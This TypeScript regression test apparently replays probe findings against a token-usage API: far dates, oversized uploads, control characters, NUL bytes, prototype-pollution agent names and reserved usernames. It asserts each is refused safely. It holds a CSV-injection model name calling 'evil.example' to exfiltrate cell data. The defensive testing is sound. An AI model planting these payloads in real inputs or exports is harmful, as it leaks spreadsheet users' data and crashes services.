import { BACKEND } from '../helpers/database.js';
import { mutate, sample } from './arbitraries/bodies.js';
import { pct } from './arbitraries/encode.js';
import { type Auth, type FuzzCase, printable, type Role } from './harness/case.js';
import { type Expectation, failureMessage, FuzzRunner } from './harness/runner.js';

/**
 * The inputs that probing found (issue 8, items 1, 2, 4, 5, 9 and 12), as explicit cases through
 * the fuzz harness: each must be refused with a 4xx problem body within the time bound, store
 * nothing and leave /health/live answering; a few must meet more (listed with them).
 */

const role = (r: Role): Auth => ({ role: r });
const REFUSED = [400, 401, 403, 404, 409, 413, 415, 422];

function get(path: string, auth: Auth = role('none')): FuzzCase {
  return printable({ route: `GET ${path.split('?')[0]}`, group: 'known', method: 'GET', path, auth });
}

function post(path: string, body: unknown, auth: Auth): FuzzCase {
  const text = Buffer.isBuffer(body) ? body : Buffer.from(typeof body === 'string' ? body : JSON.stringify(body));
  return printable({
    route: `POST ${path.split('?')[0]}`,
    group: 'known',
    method: 'POST',
    path,
    auth,
    headers: { 'content-type': 'application/json' },
    body: text,
  });
}

const upload = (body: unknown, auth: Auth = role('alice'), query = '') => post(`/api/v1/uploads${query}`, body, auth);
const cursor = (text: string) => Buffer.from(text).toString('base64url');

type Json = Record<string, unknown>;
type Breakdown = Json & { modelName: string };

/** A model line with no tokens: the day's sums still hold, so only a cap or a name rule can refuse it. */
const emptyModel = (modelName: string): Breakdown => ({ modelName, inputTokens: 0, outputTokens: 0, cacheCreationTokens: 0, cacheReadTokens: 0, cost: 0 });

/** claude-daily.json with its first model renamed. */
function claudeDailyWithModel(name: string): unknown {
  const report = sample('claude-daily.json') as { daily: Array<{ modelBreakdowns: Breakdown[]; modelsUsed?: string[] }> };
  const day = report.daily[0];
  const old = day.modelBreakdowns[0].modelName;
  day.modelBreakdowns[0].modelName = name;
  day.modelsUsed = day.modelsUsed?.map((m) => (m === old ? name : m));
  return report;
}

type AgentReport = {
  daily: Array<{ modelBreakdowns?: Breakdown[]; modelsUsed?: string[]; agents: Array<{ agent: string; modelBreakdowns: Breakdown[]; modelsUsed?: string[] }> }>;
};

/**
 * daily-by-agent.json with `count` models on its first day, spread over agents of at most 100
 * models each and only in the agents' rows, as v19 printed them (the day's own row had no
 * breakdowns): item 4 found 500 models on one day stored that way.
 */
function byAgentWithModels(count: number): unknown {
  const report = sample('daily-by-agent.json') as AgentReport;
  const day = report.daily[0];
  delete day.modelBreakdowns;
  const first = day.agents[0];
  const zero = Object.fromEntries(Object.entries(first).map(([k, v]) => [k, typeof v === 'number' ? 0 : v])) as (typeof day.agents)[number];
  const names = ['codex', 'gemini', 'opencode', 'amp', 'qwen', 'cursor'];
  let next = first.modelBreakdowns.length;
  for (let a = 0; next < count; a++) {
    const agent = a === 0 ? first : { ...zero, agent: names[(a - 1) % names.length], modelBreakdowns: [], modelsUsed: [] };
    while (agent.modelBreakdowns.length < 100 && next < count) agent.modelBreakdowns.push(emptyModel(`probe-model-${next++}`));
    if (a > 0) day.agents.push(agent);
  }
  return report;
}

/**
 * A --by-agent report whose agents are all named `agent` and whose models no name rule knows, so
 * that the provider can only come from the agent (item 9: `constructor` gave a 500, `__proto__`
 * stored the provider `{}`).
 */
function agentNamed(agent: string, fixture: string): unknown {
  const report = mutate(sample(fixture), [{ op: 'agent-name', to: agent }]);
  // Every model name, wherever it appears, becomes one that no provider rule matches.
  return JSON.parse(report.replace(/"(claude|gpt)-[^"]*"/g, (name) => `"mystery-${name.slice(1, -1).replace(/^(claude|gpt)-/, '')}"`));
}

/**
 * Item 2: an --instances report of `projects` projects with 100 models each on the same day, all
 * different, so that a merge that re-combines the model list per project is quadratic.
 */
function manyInstances(projects: number): string {
  const source = sample('claude-daily-instances.json') as { projects: Record<string, Json[]>; totals: Json };
  const row = Object.values(source.projects)[0][0];
  const out: Record<string, Json[]> = {};
  for (let p = 0; p < projects; p++) {
    // Without cost (it is optional), 940 projects stay under 10 MB, as in the probe.
    const models = Array.from({ length: 100 }, (_, m) => {
      const { cost: _cost, ...model } = emptyModel(`p${p}m${m}`);
      return model;
    });
    out[`-home-user-project-${p}`] = [{ ...row, modelBreakdowns: models, modelsUsed: undefined }];
  }
  return JSON.stringify({ projects: out, totals: source.totals });
}

/** Item 12: a 400 for a report with thousands of invalid fields lists the first ones, not all. */
function thousandsOfBadFields(): string {
  const day = { date: 'not-a-day', inputTokens: 'a', outputTokens: 'b', cacheCreationTokens: 'c', cacheReadTokens: 'd', totalTokens: 'e' };
  return JSON.stringify({ daily: Array.from({ length: 3000 }, () => day) });
}

const FAR_DATES = ['9999-12-31', '0000-01-01', '10000-01-01', '+010000-01-01'];
const FORMULA_MODELS = ['=HYPERLINK("http://evil.example/?x="&A1,"x")', '+1+1', '-1+1', '@SUM(A1)'];

interface Known {
  item: number;
  name: string;
  case: FuzzCase;
  expect?: Expectation;
}

const KNOWN: Known[] = [
  // Item 1: far dates hung the process (string comparison of +010000-01 against 9999-…).
  ...[
    '/api/v1/stats/summary',
    '/api/v1/models',
    '/api/v1/providers',
    '/api/v1/leaderboard',
    '/api/v1/usage',
    '/api/v1/users/alice/usage',
    '/api/v1/models/claude-sonnet-4-5-20250929/usage',
  ].flatMap((route) => [
    { item: 1, name: `${route} from and to 9999-12-31`, case: get(`${route}?from=9999-12-31&to=9999-12-31`) },
    { item: 1, name: `${route} from 2025-01-01 to 9999-12-31`, case: get(`${route}?from=2025-01-01&to=9999-12-31`) },
  ]),
  ...FAR_DATES.map((day) => ({
    item: 1,
    name: `/api/v1/stats/summary from and to ${day}`,
    case: get(`/api/v1/stats/summary?from=${pct(day)}&to=${pct(day)}`),
  })),
  { item: 1, name: 'the leaderboard from 1970-01-01 to 9999-12-31', case: get('/api/v1/leaderboard?from=1970-01-01&to=9999-12-31') },
  { item: 1, name: 'an upload with a day in 9999', case: upload(mutate(sample('claude-daily.json'), [{ op: 'date', at: 0, value: '9999-12-31' }])) },
  { item: 1, name: 'an upload with a day in 10000', case: upload(mutate(sample('claude-daily.json'), [{ op: 'date', at: 0, value: '+010000-01-01' }])) },
  // Item 2: the quadratic --instances merge, at the size that blocked the event loop for 30 s.
  { item: 2, name: 'an --instances report of 940 projects x 100 models', case: upload(manyInstances(940)) },
  { item: 2, name: 'an --instances report of 150 projects x 100 models', case: upload(manyInstances(150)) },
  // Item 4: the model cap on every format, printable names within the spec's lengths.
  { item: 4, name: 'a --by-agent report with 500 models on one day', case: upload(byAgentWithModels(500)) },
  { item: 4, name: 'a --by-agent report with 101 models on one day', case: upload(byAgentWithModels(101)) },
  { item: 4, name: 'a model name with a control character', case: upload(claudeDailyWithModel('claude\u0001sonnet')) },
  { item: 4, name: 'a model name with a right-to-left override', case: upload(claudeDailyWithModel('claude-\u202esonnet')) },
  { item: 4, name: 'a model name of 101 characters', case: upload(claudeDailyWithModel('m'.repeat(101))) },
  { item: 4, name: 'a device name with a NUL byte', case: upload(sample('claude-daily.json'), role('alice'), '?device=lap%00top') },
  { item: 4, name: 'a device name with a line feed', case: upload(sample('claude-daily.json'), role('alice'), '?device=lap%0Atop') },
  { item: 4, name: 'a token name with a control character', case: post('/api/v1/users/alice/tokens', { name: 'ci\u001b[31m' }, role('alice')) },
  { item: 4, name: 'a token name of 101 characters', case: post('/api/v1/users/alice/tokens', { name: 'n'.repeat(101) }, role('alice')) },
  // Item 9: unhandled 500s.
  { item: 9, name: 'a model name with a NUL byte', case: upload(claudeDailyWithModel('claude-sonnet\u0000-4-5')) },
  { item: 9, name: 'a token name with a NUL byte', case: post('/api/v1/users/alice/tokens', { name: 'lap\u0000top' }, role('alice')) },
  { item: 9, name: 'GET /api/v1/users?q=a%00', case: get('/api/v1/users?q=a%00') },
  { item: 9, name: 'GET /api/v1/models/x%00y/usage', case: get('/api/v1/models/x%00y/usage') },
  { item: 9, name: 'an export cursor of 2026-99-99|1', case: get(`/api/v1/usage?cursor=${cursor('2026-99-99|1')}`) },
  { item: 9, name: 'an export cursor with an id beyond 32 bits', case: get(`/api/v1/usage?cursor=${cursor('2025-06-01|4294967296')}`) },
  { item: 9, name: 'an export cursor with an id beyond 2^31', case: get(`/api/v1/usage?cursor=${cursor('2025-06-01|2147483648')}`) },
  { item: 9, name: 'an export cursor with an id beyond 2^53', case: get(`/api/v1/usage?cursor=${cursor('2025-06-01|9007199254740993')}`) },
  { item: 9, name: 'a CSV export from a bad cursor', case: get(`/api/v1/usage?format=csv&cursor=${cursor('2026-99-99|1')}`) },
  // Item 12: reserved names, and a bounded list of field errors.
  ...['admin', 'root', 'api', 'docs', 'health', 'metrics', 'me', 'Admin'].map((username) => ({
    item: 12,
    name: `registering the reserved name ${username}`,
    case: post('/api/v1/users', { username }, role('none')),
  })),
  {
    item: 12,
    name: 'an upload with 18,000 invalid fields',
    case: upload(thousandsOfBadFields()),
    expect: {
      statuses: [400],
      check: (res) => {
        const problem = JSON.parse(res.body.toString('utf8')) as { errors?: unknown[] };
        if (res.body.length > 64 * 1024) return `the problem body is ${res.body.length} bytes`;
        if ((problem.errors?.length ?? 0) > 100) return `the problem lists ${problem.errors!.length} field errors, not the first 100`;
        return undefined;
      },
    },
  },
];

/**
 * Item 9: agents named after Object's own properties gave a 500 (`constructor`) or stored the
 * provider `{}` (`__proto__`). The fix looks agents up in a Map, so such a report may be stored:
 * then under a real provider, never `{}` or a function's text.
 */
const PROTOTYPE_AGENTS: Array<[string, string]> = [
  ...['constructor', '__proto__', 'toString', 'hasOwnProperty'].map((agent): [string, string] => [agent, 'daily-by-agent.json']),
  ['__proto__', 'mixed-claude-codex-daily-by-agent.json'],
];

const realProviders: Expectation['check'] = (res) => {
  const { providers } = JSON.parse(res.body.toString('utf8')) as { providers: Array<{ provider: unknown }> };
  const odd = providers.map((p) => p.provider).filter((p) => typeof p !== 'string' || !/^[a-z]+$/.test(p));
  return odd.length ? `providers that are no provider: ${JSON.stringify(odd)}` : undefined;
};

/** Item 5: a model named like a formula is stored or refused; if stored, no CSV may give it back live. */
const CSV_READS = [
  '/api/v1/models?format=csv',
  '/api/v1/providers?format=csv',
  '/api/v1/leaderboard?period=all&format=csv',
  '/api/v1/users/alice/usage?format=csv',
  '/api/v1/users/alice/usage?format=csv&granularity=month',
  '/api/v1/usage?format=csv&from=2025-06-01&to=2025-06-07',
];

describe(`fuzz: known inputs from issue 8 (${BACKEND})`, () => {
  let runner: FuzzRunner;

  beforeAll(async () => {
    // The probes of item 2 are ~10 MB, as found: above the 4 MiB default, so that they reach the parser.
    runner = await FuzzRunner.start({ env: { BODY_LIMIT_BYTES: String(16 * 1024 * 1024) } });
  }, 180_000);

  afterAll(async () => {
    await runner?.stop();
  }, 60_000);

  test.each(KNOWN.map((k) => [`item ${k.item}: ${k.name}`, k] as const))('%s', async (_name, k) => {
    const failures = await runner.run(k.case, { statuses: REFUSED, ...k.expect });
    if (failures.length) throw new Error(failureMessage(k.case, failures));
  });

  test.each(PROTOTYPE_AGENTS)('item 9: an agent named %s (%s) is refused or stored under a real provider', async (agent, fixture) => {
    const c = upload(agentNamed(agent, fixture), role('bob'), '?device=agents');
    const failures = await runner.run(c, { statuses: [200, ...REFUSED] });
    if (failures.length) throw new Error(failureMessage(c, failures));
    const list = get('/api/v1/providers?limit=500');
    const listed = await runner.run(list, { statuses: [200], check: realProviders });
    if (listed.length) throw new Error(failureMessage(list, listed));
  });

  test.each(FORMULA_MODELS)('item 5: a model named %s never comes back as a live CSV formula', async (model) => {
    const stored = await runner.run(upload(claudeDailyWithModel(model), role('bob'), '?device=formula'), { statuses: [200, ...REFUSED] });
    if (stored.length) throw new Error(failureMessage(upload(claudeDailyWithModel(model), role('bob')), stored));
    const reads = [...CSV_READS, '/api/v1/users/bob/usage?format=csv', `/api/v1/models/${pct(model)}/usage?format=csv`];
    for (const path of reads) {
      const failures = await runner.run(get(path, role('admin')), { statuses: [200, 404] });
      if (failures.length) throw new Error(failureMessage(get(path), failures));
    }
  });
});

describe(`fuzz: known inputs with READ_ACCESS=token (${BACKEND})`, () => {
  let runner: FuzzRunner;

  beforeAll(async () => {
    runner = await FuzzRunner.start({ env: { READ_ACCESS: 'token' } });
  }, 180_000);

  afterAll(async () => {
    await runner?.stop();
  }, 60_000);

  // Item 12: without a token, a name nobody has must get the answer a real user gets.
  test.each([
    ['DELETE', '/api/v1/users/nobody'],
    ['DELETE', '/api/v1/users/alice'],
    ['GET', '/api/v1/users/nobody'],
    ['GET', '/api/v1/users/alice'],
    ['GET', '/api/v1/users/nobody/usage'],
    ['GET', '/api/v1/users/nobody/tokens'],
    ['POST', '/api/v1/users/nobody/tokens'],
  ])('item 12: %s %s without a token is 401', async (method, path) => {
    const c = printable({ route: `${method} ${path}`, group: 'known', method, path, auth: role('none') });
    const failures = await runner.run(c, { statuses: [401] });
    if (failures.length) throw new Error(failureMessage(c, failures));
  });

  test("item 12: another user's token gets the same answer for a name nobody has as for a real user", async () => {
    const statuses: number[] = [];
    for (const path of ['/api/v1/users/nobody', '/api/v1/users/alice']) {
      const c = printable({ route: `DELETE ${path}`, group: 'known', method: 'DELETE', path, auth: role('bob') });
      let status = 0;
      const failures = await runner.run(c, { statuses: REFUSED, check: (res) => void (status = res.status) });
      if (failures.length) throw new Error(failureMessage(c, failures));
      statuses.push(status);
    }
    expect(statuses[0]).toBe(statuses[1]);
  });
});
